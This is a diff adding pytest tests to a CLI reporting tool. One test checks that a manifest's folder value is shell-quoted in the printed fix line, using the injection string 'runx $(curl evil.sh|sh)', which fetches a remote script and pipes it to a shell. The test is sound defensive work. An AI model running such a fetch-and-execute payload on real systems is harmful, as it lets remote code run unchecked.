@@ -192,3 +192,34 @@ def test_every_column_has_its_values_declared() -> None:
         assert not missing, f"{table}: no VALUES declared for {', '.join(missing)}"
         extra = [c for c in COLUMN_VALUES.get(table, {}) if c not in columns]
         assert not extra, f"{table}: VALUES for columns it does not have: {', '.join(extra)}"
+
+
+def test_the_fix_line_quotes_the_manifests_facts_folder(tmp_path: Path, pristine: tuple[Path, Path]) -> None:
+    """A manifest's facts_dir is pasted into the fix line a user copies: quoted for the shell, it is
+    one argument, never a command that runs."""
+    out = tmp_path / "out"
+    shutil.copytree(pristine[1], out)
+    manifest = json.loads((out / "run.json").read_text())
+    manifest["facts_dir"] = "runx $(curl evil.sh|sh)"
+    (out / "run.json").write_text(json.dumps(manifest))
+    (out / "scores.json").write_text("[]")  # its digest no longer matches
+    code, _out, err = run_cli("report", str(out), "--no-plots", "--out", str(tmp_path / "r.html"))
+    assert code == 2
+    assert err.endswith(
+        f"  fix: run the check again: metalogic check 'runx $(curl evil.sh|sh)' --out {out} "
+        "(or 'metalogic run CONFIG')\n"
+    ), err
+
+
+def test_a_manifest_of_another_kind_is_not_called_older(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "run.json").write_text(
+        json.dumps({"kind": "someone else's", "engine": "x", "facts_dir": "f", "agents": []})
+    )
+    code, _out, err = run_cli("report", str(out))
+    assert code == 2
+    assert err.startswith(
+        f"error: {out / 'run.json'}: {out / 'run.json'} was not written by 'metalogic check --out'\n"
+    )
+    assert "older metalogic" not in err
